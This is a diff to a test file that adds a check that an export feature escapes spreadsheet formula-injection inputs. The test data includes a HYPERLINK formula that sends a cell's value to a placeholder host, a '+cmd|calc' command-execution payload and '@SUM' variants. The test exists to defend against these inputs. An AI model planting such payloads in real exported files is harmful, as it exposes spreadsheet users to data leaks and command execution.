@@ -84,6 +84,27 @@ describe('exports: vouchers', () => {
   });
 });
 
+describe('exports: spreadsheet formulas (decision 0034)', () => {
+  test('cells that would open as formulas are written as text; numbers, negative ones included, stay numbers', async () => {
+    const { orders, customers } = state();
+    customers.upsert({
+      source_id: '-2+3',
+      name: '=HYPERLINK("http://example.com/?"&A1,"open")',
+      description: '@SUM(1+1)',
+      address: { city: 'a;=1+1', line_1: '\t=1', line_2: '-100' },
+    });
+    const people = await createExport({ exported_object: 'customer', parameters: { fields: ['source_id', 'name', 'description', 'address_city', 'address_line_1', 'address_line_2'] } });
+    const { text, table } = await finished(people.id);
+    expect(text.split('\r\n')[1]).toBe('\'-2+3,"\'=HYPERLINK(""http://example.com/?""&A1,""open"")",\'@SUM(1+1),"a;=1+1",\'\t=1,-100');
+    expect(rowsOf(table)[0]).toEqual(['\'-2+3', '\'=HYPERLINK("http://example.com/?"&A1,"open")', '\'@SUM(1+1)', 'a;=1+1', '\'\t=1', '-100']);
+
+    orders.upsert({ source_id: 'o-1', status: 'PAID', metadata: { payment_mean: -100 } });
+    orders.upsert({ source_id: 'o-2', status: 'PAID', metadata: { payment_mean: '+cmd|calc' } });
+    const paid = await createExport({ exported_object: 'order', parameters: { fields: ['source_id', 'metadata.payment_mean'], order: 'created_at' } });
+    expect((await finished(paid.id)).text).toBe("source_id,metadata.payment_mean\r\no-1,-100\r\no-2,'+cmd|calc\r\n");
+  });
+});
+
 describe('exports: customers', () => {
   test('default columns are name and source_id; a name with a comma and quotes is quoted as RFC 4180 says', async () => {
     const { customers } = state();
